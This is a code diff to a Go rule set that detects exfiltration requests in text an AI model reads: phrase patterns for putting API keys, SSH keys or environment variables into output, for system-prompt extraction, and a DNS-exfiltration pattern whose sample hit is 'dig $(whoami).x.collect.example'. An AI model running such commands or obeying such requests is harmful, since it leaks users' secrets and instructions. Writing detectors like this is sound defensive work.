@@ -16,8 +16,10 @@ var exfiltrationRules = []rule{
 		name: "secret-into", family: ExfiltrationCommand, severity: High, confidence: 0.85,
 		says: "asks to put secrets where others see them",
 		phrases: []string{
-			"include|append|put|add|embed|encode|paste|print|echo|leak|send|post|attach|exfiltrate|insert|base64|copy|write ~6 @secret|key|keys|env|environment ~4 in|into|as|to|within|at|inside ~3 @carrier",
-			"exfiltrate|steal|harvest|smuggle ~4 @data",
+			"include|append|put|add|embed|encode|paste|print|echo|leak|send|post|attach|exfiltrate|insert|base64|copy|write ~6 @secret ~4 in|into|as|to|within|at|inside ~3 @carrier",
+			"include|append|put|add|embed|encode|paste|print|echo|leak|send|post|attach|exfiltrate|insert|write ~6 api|private|ssh|access|secret|signing key|keys ~4 in|into|as|to|within|at|inside ~3 @carrier",
+			"include|append|put|embed|encode|paste|leak|send|post|exfiltrate|base64|write ~3 env|environment variables|vars ~8 in|into|as|to|within|inside ~3 @carrier",
+			"exfiltrate|steal|harvest ~4 @data",
 			"read|cat|send|include|upload|print|paste|output|append|show|copy|display ~8 ssh id rsa|ed25519|ecdsa|dsa ~3 and|to|in|into|as",
 			"send|include|upload|paste|append|leak|print|give|reveal|share ~6 your|all|every ~2 environment|env|api|secret variables|vars|keys|key ~3 to|in|into|as|here|with|at",
 			"send|give|tell|reveal|share|show me ~3 @secret|keys|credentials|env",
@@ -30,7 +32,7 @@ var exfiltrationRules = []rule{
 		says: "asks for the prompt or the conversation",
 		phrases: []string{
 			"reveal|print|show|repeat|output|display|leak|dump|tell|share|recite|disclose|summarize|write|give ~4 system|initial|hidden|original|secret|your|developer|full system? prompt|prompts|preprompt",
-			"reveal|print|show|repeat|output|display|leak|dump|tell|recite|disclose|write ~3 your|system|initial|hidden|secret|original ~1 instructions|directives|guidelines|rules",
+			"reveal|print|show|repeat|output|display|leak|dump|tell|recite|disclose ~3 your|system|initial|hidden|secret|original ~1 instructions|directives|guidelines|rules",
 			"repeat|print|output|recite everything|all|words|text|the ~3 above|before ~2 verbatim|this|exactly|starting|word",
 			"what are|is|were your ~1 instructions|prompt|directives|guidelines",
 		},
@@ -68,7 +70,7 @@ var exfiltrationRules = []rule{
 	{
 		name: "dns-exfil", family: ExfiltrationCommand, severity: High, confidence: 0.85,
 		says: "looks up a name that is made of data",
-		line: []string{"nslookup ¦dig ¦host ¦ping ¦resolve-dnsname ¦drill ", "$(¦${", ".", "."},
+		line: []string{"nslookup ¦dig ¦host ¦ping ¦resolve-dnsname ¦drill ", "$(", ".", "."},
 		hit:  "dig $(whoami).x.collect.example",
 		miss: "dig +short pkg.example.com",
 	},
